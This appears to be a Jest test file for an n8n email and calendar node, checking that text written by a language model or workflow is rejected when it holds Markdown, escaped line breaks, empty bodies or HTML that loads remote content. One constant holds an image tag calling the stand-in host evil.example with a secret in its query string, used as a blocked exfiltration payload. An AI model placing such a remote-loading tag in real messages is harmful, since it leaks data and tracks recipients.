import { ExecuteContext } from 'n8n-core';
import type { INodeParameters } from 'n8n-workflow';
import { asked, own, provider, runForOne, useMailboxes } from '../../../harness/mail';
import { failureOf } from '../../../harness/steps';

/** What a language model writes into mails and events, and a workflow may. */

useMailboxes();

const tool = { asTool: true };
const to = 'ann@contoso.com';
const mail = () => own().deliver({ subject: 'Question', from: to });
const draft = async () =>
	String((await runForOne('email.createDraft', { to, subject: 'Draft', message: 'First' })).id);

/** Every step that takes a text from a model, with what it needs beside. */
const STEPS: Array<[string, string, () => Promise<INodeParameters>]> = [
	['email.sendEmail', 'message', async () => ({ to })],
	['email.replyToEmail', 'message', async () => ({ messageId: mail().immutableId })],
	['email.forwardEmail', 'message', async () => ({ messageId: mail().immutableId, to })],
	['email.createDraft', 'message', async () => ({ to })],
	['email.updateDraft', 'message', async () => ({ messageId: await draft() })],
	['calendar.createEvent', 'body', async () => ({ start: '2031-03-03T10:00Z' })],
];

describe.each(STEPS)('%s of a language model', (step, field, given) => {
	it.each([
		['Subject: Plan\n\nHello Ann', 'begins with "Subject:"'],
		['Hello Ann,\\n\\nsee you.\\nBob', 'Write real line breaks'],
		['Hello **Ann**', 'is Markdown'],
		['See [the page](https://contoso.com)', 'is Markdown'],
		['# Agenda\nOne', 'is Markdown'],
		['<p>Hello **Ann**</p>', 'is Markdown'],
		['Hello Ann,<br><br/>see you', 'is plain text with HTML in it'],
		['See <a href="https://contoso.com">the page</a>', 'is plain text with HTML in it'],
		['Tom &amp; Ann&#39;s', 'is plain text with HTML in it'],
	])('does not send %j', async (text, message) => {
		const parameters = await given();
		provider().requests.clear();
		const failure = await failureOf(runForOne(step, { ...parameters, [field]: text }, tool));
		expect(failure.message).toContain(message);
		expect(asked()).toEqual([]);
	});

	it.each([
		'The file lies in C:\\new.\nSee there.',
		'2 ** 3 ** 2, item #1, [1] and - a list\n- of two',
		'if a<b and c>d then',
		'<p>Hello <b>Ann</b></p>',
	])('writes %j', async (text) => {
		expect(await runForOne(step, { ...(await given()), [field]: text }, tool)).toHaveProperty('id');
	});
});

describe('a mail of a language model', () => {
	it.each([
		['email.sendEmail', { to, subject: 'Nothing' }],
		['email.sendEmail', { to, message: ' \n' }],
		['email.replyToEmail', {}],
	])('is not sent empty (%s %j)', async (step, more) => {
		const parameters = { messageId: mail().immutableId, ...more };
		const failure = await failureOf(runForOne(step, parameters, tool));
		expect(failure.message).toMatch(/^Message: is empty\. Write what the email is to say\./);
		expect(asked()).toEqual([]);
	});

	it('may hold a file alone, and be an empty draft', async () => {
		const files = { data: { content: 'x', fileName: 'x.txt' } };
		const parameters = { to, subject: 'File', attachments: 'data' };
		const run = { ...tool, items: [{ json: {}, files }] };
		expect(await runForOne('email.sendEmail', parameters, run)).toMatchObject({ sent: true });
		const kept = { messageId: mail().immutableId, saveAsDraft: true };
		expect(await runForOne('email.replyToEmail', kept, tool)).toMatchObject({ sent: false });
	});

	it('keeps a comparison as the text it is', async () => {
		await runForOne('email.sendEmail', { to, message: 'if a<b and c>d then\nstop' }, tool);
		const [posted] = provider().requests.all.filter(({ method }) => method === 'POST');
		expect(JSON.stringify(posted?.body)).toContain('"contentType":"text"');
		expect(JSON.stringify(posted?.body)).toContain('if a<b and c>d then\\nstop');
	});

	it.each([
		['Hello **Ann**', 'text'],
		['Write <br> or &nbsp; there', 'text'],
		['Hello Ann,<br>see you', 'html'],
	])('may be %j where the format is fixed as %s', async (message, messageFormat) => {
		const parameters = { to, message, messageFormat };
		expect(await runForOne('email.sendEmail', parameters, tool)).toMatchObject({ sent: true });
	});
});

it.each(['', 'Hello **Ann**,\\nsee you', 'Tom &amp; <b>Ann</b> there'])(
	'a workflow may send %j',
	async (message) => {
		expect(await runForOne('email.sendEmail', { to, message })).toMatchObject({ sent: true });
	},
);

describe.each(STEPS)('%s of a workflow', (step, field, given) => {
	it.each([
		['Hello Ann,<br>see you', 'auto', 1],
		['Tom &amp; Ann', 'auto', 1],
		['Hello **Ann**', 'auto', 1],
		['<p>Hello **Ann**</p>', 'html', 1],
		['Hello **Ann**', 'text', 0],
		['<p>Hello Ann,<br>see you</p>', 'auto', 0],
		['if a<b and c>d then', 'auto', 0],
		['Hello Ann,<br>see you', 'html', 0],
		['Hello Ann,<br>see you', 'text', 0],
	])(
		'tells the person who built it of signs that others would read: %j as %s',
		async (text, format, told) => {
			const formats =
				field === 'body' ? { options: { bodyFormat: format } } : { messageFormat: format };
			const parameters = { ...(await given()), ...formats, [field]: text };
			const hint = jest.spyOn(ExecuteContext.prototype, 'addExecutionHints');
			await runForOne(step, parameters);
			const hints = hint.mock.calls
				.flat()
				.filter(({ message }) => message.includes('Message Format'));
			hint.mockRestore();
			expect(hints).toHaveLength(told);
		},
	);
});

describe('HTML that loads something by itself', () => {
	const EVIL = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
	const at = (dateTime: string) => ({ dateTime, timeZone: 'UTC' });
	const event = () =>
		own()
			.calendar.seed({
				subject: 'Talk',
				start: at('2031-03-03T09:00:00'),
				end: at('2031-03-03T10:00:00'),
			})
			.idOf('immutable');
	const on = { status: 'alwaysEnabled', message: 'Away' };
	/** Every field whose text others read, with its label. */
	const FIELDS: Array<[string, string, string, () => Promise<INodeParameters>]> = [
		...STEPS.map(([step, field, given]): (typeof FIELDS)[number] => [
			step,
			field,
			field === 'body' ? 'Description' : 'Message',
			given,
		]),
		[
			'email.scheduleEmail',
			'message',
			'Message',
			async () => ({ to, sendAt: '2031-03-03T10:00Z' }),
		],
		['calendar.updateEvent', 'body', 'Description', async () => ({ eventId: event() })],
		['calendar.cancelEvent', 'comment', 'Comment', async () => ({ eventId: event() })],
		[
			'calendar.forwardEvent',
			'comment',
			'Comment',
			async () => ({ eventId: event(), to: 'pat@example.com' }),
		],
		[
			'calendar.respondToEvent',
			'comment',
			'Comment',
			async () => ({ eventId: event(), response: 'accept' }),
		],
		['advanced.setAutomaticReplies', 'message', 'Message', async () => on],
		[
			'advanced.setAutomaticReplies',
			'externalMessage',
			'External Message',
			async () => ({ ...on, externalAudience: 'all' }),
		],
	];
	const policy = { credentialData: { maximumEmailsPerHour: 9 } };

	it.each(
		FIELDS.flatMap((one) => [
			{ one, who: 'a language model', run: tool, description: '' },
			{
				one,
				who: 'a workflow under a policy',
				run: policy,
				description: 'Attach the picture, or leave a link.',
			},
		]),
	)('is not taken from $who ($one.0 $one.1)', async ({ one, run, description }) => {
		const [step, field, label, given] = one;
		const parameters = await given();
		provider().requests.clear();
		const failure = await failureOf(runForOne(step, { ...parameters, [field]: EVIL }, run));
		expect(failure).toMatchObject({
			message: expect.stringContaining(
				`${label}: loads something from another server by itself: img`,
			),
			// A model reads the way out in the message, and once.
			description,
		});
		expect(asked().filter((request) => !request.startsWith('GET '))).toEqual([]);
	});

	it('is sent as it is by a workflow that nothing holds', async () => {
		expect(await runForOne('email.sendEmail', { to, message: EVIL })).toMatchObject({ sent: true });
	});

	it.each([
		['auto', '<p><img src="cid:logo"><a href="https://contoso.com">here</a></p>'],
		['text', EVIL],
		['auto', `Look: ${EVIL} is no text of ours`],
	])('is not what %s %j is', async (messageFormat, message) => {
		const given = { to, message, messageFormat };
		expect(await runForOne('email.sendEmail', given, policy)).toMatchObject({ sent: true });
	});

	it('may stand in the mail that is answered', async () => {
		const body = { contentType: 'html' as const, content: EVIL };
		const { immutableId } = own().deliver({ subject: 'News', from: to, body });
		for (const step of ['email.replyToEmail', 'email.forwardEmail']) {
			const given = { messageId: immutableId, to, message: '<p>Thanks</p>', saveAsDraft: true };
			const { id } = await runForOne(step, given, tool);
			expect(own().messageOf(String(id))?.body?.content).toContain('evil.example');
			const more = { messageId: String(id), message: '<p>Thank you</p>' };
			await runForOne('email.updateDraft', more, { ...tool, ...policy });
			expect(own().messageOf(String(id))?.body?.content).toContain('evil.example');
		}
	});

	it.each([
		['POST', '/me/messages'],
		['POST', '/me/events'],
	])('is not written by an API call under a policy (%s %s)', async (method, endpoint) => {
		const body = JSON.stringify({ body: { contentType: 'html', content: EVIL } });
		const failure = await failureOf(
			runForOne('advanced.apiCall', { method, endpoint, body }, policy),
		);
		expect(failure.message).toContain('API calls may only read');
		expect(asked()).toEqual([]);
	});
});
